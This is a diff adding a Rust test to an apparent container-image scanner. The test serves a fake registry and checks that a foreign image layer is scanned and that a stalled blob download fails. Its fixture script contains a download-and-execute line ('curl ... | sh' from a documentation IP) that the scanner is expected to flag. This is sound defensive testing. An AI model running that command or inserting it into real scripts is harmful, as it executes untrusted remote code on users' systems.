@@ -250,3 +250,93 @@ fn credentials_go_to_a_token_realm_only_over_tls_or_loopback() {
     assert_eq!(code, Some(2), "{err}");
     assert!(err.contains("DNS") || err.contains("resolved"), "{err}");
 }
+
+/// Serve `img` as `app:v1`; `blob` may replace how one blob is sent.
+fn serve_image(
+    img: stowaway::fixture::BuiltImage,
+    drip: Option<stowaway::digest::Sha256>,
+) -> String {
+    fake_registry(move |path, _, c| {
+        if ok_v2(path, c) {
+            return;
+        }
+        let body: Option<Vec<u8>> = if path == "/v2/app/manifests/v1" {
+            Some(img.manifest.clone())
+        } else if let Some(d) = path.strip_prefix("/v2/app/blobs/") {
+            if Some(d.to_string()) == drip.map(|d| d.to_string()) {
+                let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n\x1f");
+                std::thread::sleep(Duration::from_secs(120));
+                return;
+            }
+            img.blobs()
+                .into_iter()
+                .find(|(bd, _)| bd.to_string() == d)
+                .map(|(_, b)| b.to_vec())
+        } else {
+            None
+        };
+        match body {
+            Some(b) => {
+                let _ = write!(
+                    c,
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                    b.len()
+                );
+                let _ = c.write_all(&b);
+            }
+            None => {
+                let _ = c.write_all(
+                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+                );
+            }
+        }
+    })
+}
+
+#[test]
+fn foreign_layers_the_registry_serves_are_scanned_and_a_stalled_blob_fails() {
+    use stowaway::fixture::{ImageBuilder, LayerBuilder};
+    let img = ImageBuilder::new()
+        .layer(
+            LayerBuilder::new()
+                .media_type("application/vnd.oci.image.layer.nondistributable.v1.tar+gzip")
+                .file(
+                    "usr/local/bin/update",
+                    b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x | sh\n",
+                    0o755,
+                ),
+        )
+        .layer(LayerBuilder::new().file("app/x", b"x", 0o644))
+        .build();
+    let addr = serve_image(img.clone(), None);
+    let s = stowaway::scan(&format!("{addr}/app:v1"), &Default::default()).unwrap();
+    let paths: Vec<String> =
+        s.fs.nodes
+            .values()
+            .map(|n| n.entry.path.display())
+            .collect();
+    assert!(
+        paths.contains(&"/usr/local/bin/update".to_string()),
+        "{paths:?}"
+    );
+    assert!(
+        s.findings
+            .iter()
+            .any(|f| f.code == stowaway::Code::DownloadExecChain),
+        "the foreign layer's script was inspected"
+    );
+    // A layer blob that stops arriving: exit 2 naming the stall.
+    let addr = serve_image(img.clone(), Some(img.layers[1].digest));
+    let (code, err, _) = run(
+        &[
+            "scan",
+            &format!("{addr}/app:v1"),
+            "--no-cache",
+            "--registry-stall-timeout",
+            "2",
+        ],
+        Duration::from_secs(60),
+    );
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("stalled"), "{err}");
+}
